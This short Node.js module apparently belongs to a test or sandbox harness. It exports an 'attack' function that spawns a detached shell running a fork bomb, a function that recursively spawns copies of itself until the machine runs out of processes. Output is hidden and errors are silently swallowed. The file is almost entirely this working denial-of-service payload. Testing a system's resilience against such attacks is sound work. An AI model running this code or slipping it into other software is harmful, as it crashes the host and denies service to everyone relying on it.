const { spawn } = require('child_process')
const { serve } = require('./attempt.js')

/** Each child makes two more, which make two more. */
const BOMB = 'b() { b | b & }; b; wait'

module.exports = serve({
  attack: async () => {
    spawn('sh', ['-c', BOMB], { stdio: 'ignore', detached: true }).on('error', () => {})
  },
})
